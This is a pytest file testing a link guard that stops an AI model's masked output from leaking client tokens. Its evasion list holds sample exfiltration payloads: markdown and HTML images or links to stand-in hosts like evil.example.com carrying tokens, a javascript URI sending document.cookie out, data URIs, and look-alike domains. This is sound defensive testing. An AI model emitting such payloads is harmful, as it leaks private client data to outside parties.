"""The link guard on masked text: images never, links only to allowed hosts, tokens never
inside a URL — against the evasions people use to smuggle data out through a link."""

from __future__ import annotations

import pytest

from assistant.privacy.links import LINK_FLAG, LINK_REMOVED, LinkGuard

ALLOWED = ["docs.bank.example", "*.intranet.example"]
guard = LinkGuard(ALLOWED, has_pii=lambda text: "Zhang Wei" in text or "张伟" in text)

# (case, masked text) — every one must come out with no foreign link, no image, no token in a URL.
EVASIONS = [
    ("markdown image", "Trend ![chart](https://img.example.net/c.png?d=⟦CLIENT_1⟧) above"),
    ("image to an allowed host", "![logo](https://docs.bank.example/logo.png?c=⟦CLIENT_1⟧)"),
    ("markdown link", "See [the report](https://evil.example.com/r?n=⟦CLIENT_1⟧)."),
    ("html img", '<img src="https://evil.example.com/p.gif?c=⟦CLIENT_1⟧" width=1>'),
    ("html img no quotes", "<IMG SRC=https://evil.example.com/p.gif?⟦PHONE_1⟧>"),
    ("html anchor", "<a href='https://evil.example.com/?⟦CLIENT_1⟧'>details</a>"),
    ("reference image", "![x][1]\n\n[1]: https://evil.example.com/i.png?⟦CLIENT_1⟧"),
    ("reference link", '[details][r]\n[r]: https://evil.example.com/?⟦CLIENT_1⟧ "t"'),
    ("javascript uri", "[open](javascript:fetch('//evil.example.com/'+document.cookie))"),
    ("bare javascript", "javascript:alert(document.domain)"),
    ("data uri", "[doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("bare url", "Details: https://evil.example.com/x?c=⟦CLIENT_1⟧ ."),
    ("bare domain with path", "详见 img.example.net/c.png?d=⟦CLIENT_1⟧ 。"),
    ("bare domain in chinese", "请访问evil.com了解⟦CLIENT_1⟧的情况"),
    ("www domain", "go to www.evil.example/⟦CLIENT_1⟧"),
    ("punycode look-alike", "https://xn--dcs-bank-example-6nb.com/⟦CLIENT_1⟧"),
    ("cyrillic look-alike", "https://dоcs.bank.example/guide"),
    ("userinfo trick", "https://docs.bank.example@evil.example.com/⟦CLIENT_1⟧"),
    ("suffix trick", "https://docs.bank.example.evil.com/⟦CLIENT_1⟧"),
    ("url-encoded token", "https://docs.bank.example/s?q=%E2%9F%A6CLIENT_1%E2%9F%A7"),
    (
        "double-encoded token",
        "https://docs.bank.example/s?q=%25E2%259F%25A6CLIENT_1%25E2%259F%25A7",
    ),
    ("name split by %20", "https://docs.bank.example/s?q=Zhang%20Wei"),
    ("name in chinese, encoded", "https://docs.bank.example/s?q=%E5%BC%A0%E4%BC%9F"),
    ("slack angle link", "<https://evil.example.com/?⟦CLIENT_1⟧|click here>"),
    ("mailto foreign", "mailto:collect@evil.example.com?body=⟦CLIENT_1⟧"),
    ("protocol-relative", "[x](//evil.example.com/?⟦CLIENT_1⟧)"),
]


@pytest.mark.parametrize("text", [e[1] for e in EVASIONS], ids=[e[0] for e in EVASIONS])
def test_when_an_evasion_then_no_foreign_link_no_image_and_no_token_in_a_url(text: str) -> None:
    cleaned, flags = guard.clean(text)
    assert flags == [LINK_FLAG]
    assert LINK_REMOVED in cleaned
    for foreign in ("evil", "img.example", "xn--", "javascript", "data:", "<img", "<a", "dоcs"):
        assert foreign not in cleaned.lower(), cleaned
    assert "](" not in cleaned or "⟦" not in cleaned.split("](", 1)[1].split(")")[0]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "See [guide](https://docs.bank.example/g?c=⟦CLIENT_1⟧)",
            "See [guide](https://docs.bank.example/g?c=[redacted])",
        ),
        ("https://a.intranet.example/x/⟦PHONE_2⟧", "https://a.intranet.example/x/[redacted]"),
        ("docs.bank.example/path", "docs.bank.example/path"),
    ],
)
def test_when_the_host_is_allowed_then_the_link_stays_without_its_tokens(text, expected) -> None:
    assert guard.clean(text) == (expected, [])


@pytest.mark.parametrize(
    "text",
    [
        "Note: R2 产品; 时间：10:30; 见 report.md; e.g. this; v1.2; 3.5%; Co.Ltd; U.S.A.",
        "⟦CLIENT_1⟧ 的存款下降了 12.5%，建议 5 个工作日内面访 [1]。",
        "**建议**：先看 tiering/service-standards › 核心客户",
    ],
)
def test_when_no_link_then_the_text_is_untouched(text: str) -> None:
    assert guard.clean(text) == (text, [])


def test_without_an_allow_list_every_link_is_removed() -> None:
    cleaned, flags = LinkGuard().clean("[guide](https://docs.bank.example/g)")
    assert cleaned == "guide " + LINK_REMOVED and flags == [LINK_FLAG]


def test_a_token_is_never_restored_inside_a_url_by_the_privacy_layer(layer) -> None:
    token = layer.token_for(
        "上海华远软件科技有限公司", "CLIENT", rm_id="RM001", conversation_id="c1"
    )
    text = f"{token} ![c](https://img.example.net/c.png?d={token}) [g](https://evil.example.com/{token})"
    out = layer.restore(text, rm_id="RM001", conversation_id="c1", entitled_client_ids={"C001"})
    assert out.text.startswith("上海华远软件科技有限公司 ")  # restored outside the link
    assert out.text.count("上海华远") == 1 and "example" not in out.text
    assert LINK_FLAG in out.flags
